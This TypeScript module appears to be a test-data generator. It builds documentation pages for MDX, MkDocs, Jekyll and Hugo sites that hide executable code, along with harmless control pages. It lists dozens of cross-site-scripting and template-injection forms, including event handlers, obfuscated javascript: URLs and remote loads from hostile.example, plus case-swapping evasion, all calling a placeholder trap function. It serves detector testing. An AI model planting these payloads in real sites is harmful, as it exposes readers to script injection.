import type { Random } from '../../../harness/random.ts';
import { mapLetters, number, oneOf, type Some } from './draw.ts';

/** Code that a site's build or a reader's browser would run; it calls `trap`. */
const inMdx: Some<(trap: string) => string> = [
  (trap) => `{${trap}()}`,
  (trap) => `{(() => ${trap}())()}`,
  (trap) => `{\`\${${trap}()}\`}`,
  (trap) => `{[1].map(${trap})}`,
  (trap) => `{{ toString: ${trap} } + ''}`,
  (trap) => `{/* a */ ${trap}()}`,
  (trap) => `text {${trap}()} text`,
  (trap) => `<p>{${trap}()}</p>`,
  (trap) => `<p title={${trap}()}>a</p>`,
  (trap) => `<p {...${trap}()}>a</p>`,
  (trap) => `<p\n  title={\n${trap}()\n}\n/>`,
  (trap) => `export const x = ${trap}()`,
  (trap) => `export default ${trap}()`,
  (trap) => `export const x = () => {\n  return 1\n}, y = ${trap}()`,
  (trap) => `export { default } from 'data:text/javascript,${trap}()'`,
  (trap) => `import 'data:text/javascript,${trap}()'`,
  (trap) => `import x from './${trap}.js'`,
  (trap) => `import {x} from "https://hostile.example/${trap}.js"`,
  (trap) => `<Foo.Bar render={() => ${trap}()} />`,
  (trap) => `<div onClick={() => ${trap}()} />`,
  (trap) => `| a |\n|---|\n| {${trap}()} |`,
  (trap) => `> - {${trap}()}`,
  (trap) => `[{${trap}()}](/x)`,
  (trap) => `*{${trap}()}*`,
  (trap) => `# {${trap}()}`,
];
const inHtml: Some<(trap: string) => string> = [
  (trap) => `<script>${trap}()</script>`,
  (trap) => `<SCRIPT SRC=//hostile.example/${trap}></SCRIPT>`,
  (trap) => `<img src=x onerror="${trap}()">`,
  (trap) => `<img src=x oNeRrOr\n= ${trap}()>`,
  (trap) => `<svg/onload=${trap}()>`,
  (trap) => `<svg><script>${trap}()</script></svg>`,
  (trap) => `<a href="javascript:${trap}()">a</a>`,
  (trap) => `<a href=" java&#10;script:${trap}()">a</a>`,
  (trap) => `[a](javascript:${trap}())`,
  (trap) => `[a](JaVaScRiPt&#58;${trap}())`,
  (trap) => `[a][b]\n\n[b]: javascript:${trap}()`,
  (trap) => `<iframe srcdoc="<script>${trap}()</script>"></iframe>`,
  (trap) => `<iframe src="https://hostile.example/${trap}"></iframe>`,
  (trap) => `<object data="//hostile.example/${trap}"></object>`,
  (trap) => `<embed src="//hostile.example/${trap}">`,
  (trap) => `<form action="javascript:${trap}()"><button>a</button></form>`,
  (trap) => `<base href="https://hostile.example/${trap}/">`,
  (trap) => `<meta http-equiv=refresh content="0;url=https://hostile.example/${trap}">`,
  (trap) => `<link rel=stylesheet href="//hostile.example/${trap}">`,
  (trap) => `<style>@import "//hostile.example/${trap}";</style>`,
  (trap) => `<details open ontoggle=${trap}()>a</details>`,
  (trap) => `<math><mtext><script>${trap}()</script></mtext></math>`,
  (trap) => `text <b onmouseover='${trap}()'>a</b> text`,
];
/** Jekyll runs pages through Liquid. */
const inLiquid: Some<(trap: string) => string> = [
  (trap) => `{{ ${trap}() }}`,
  (trap) => `{% include ${trap} %}`,
  (trap) => `{% set x = ${trap}() %}`,
  (trap) => `{%- for x in ${trap}() -%}{%- endfor -%}`,
  (trap) => `text {{ ${trap} | ${trap} }} text`,
  (trap) => `| a |\n|---|\n| {{ ${trap} }} |`,
];
const inHugo: Some<(trap: string) => string> = [
  (trap) => `{{< ${trap} >}}`,
  (trap) => `{{% ${trap} %}}`,
  (trap) => `{{< ${trap} "a" >}}text{{< /${trap} >}}`,
  (trap) => `text {{<${trap}/>}} text`,
];

const wrappers: Some<(code: string) => string> = [
  (code) => code,
  (code) => `Text.\n\n${code}\n\nText.`,
  (code) => `\`\`\`js\nok()\n\`\`\`\n\n${code}`,
  (code) => `- a\n\n${code}`,
  (code) => `<!-- -->\n\n${code}`,
  (code) => `~~~\n\`\`\`\n~~~\n\n${code}`,
  (code) => `    code\n\n${code}`,
  (code) => `\`a\`\n\n${code}\n\n\`b\``,
  (code) => `\\\`\n\n${code}`,
];

export type Site = 'mdx' | 'mkdocs' | 'jekyll' | 'hugo';

export interface HostilePage {
  path: string;
  content: string;
}

/** Draws a page with code in it. `site`: how the site's generator treats pages. */
export function drawHostilePage(random: Random, site: Site): HostilePage {
  const trap = `trap${number(random, 1e6)}`;
  const forms = { mdx: inMdx, mkdocs: inHtml, jekyll: inLiquid, hugo: inHugo }[site];
  const code = random.pick(forms)(trap);
  const text = oneOf(random, [
    () => random.pick(wrappers)(code),
    () => random.pick(wrappers)(code),
    () =>
      random.pick(wrappers)(site === 'mkdocs' && !code.includes('&') ? mapLetters(random, code, 0.2, swapCase) : code),
    () => random.pick(wrappers)(code).replaceAll('\n', '\r\n'),
  ]);
  const ending = site === 'mdx' ? 'mdx' : 'md';
  return { path: `docs/page-${trap}.${ending}`, content: `---\ntitle: Page\n---\n\n${text}\n` };
}

const swapCase = (letter: string) => (letter === letter.toUpperCase() ? letter.toLowerCase() : letter.toUpperCase());

const harmless: Some<string> = [
  'Call `{x()}` and `<script>`.',
  '```js\nimport x from "y"\nx()\n```',
  'Text with {"a string"} and more.',
  '## A heading\n\n- a list\n- of [links](/index)\n\n| a | b |\n|---|---|\n| 1 | 2 |',
  '![A picture](/images/a.png)',
  '> A quotation with **bold** text.',
];

/** Draws a page without any code that runs. */
export function drawHarmlessPage(random: Random): HostilePage {
  const text = random.pick(harmless).replaceAll('{"a string"}', 'words');
  return { path: `docs/fine-${number(random, 1e6)}.md`, content: `---\ntitle: Page\n---\n\n${text}\n` };
}
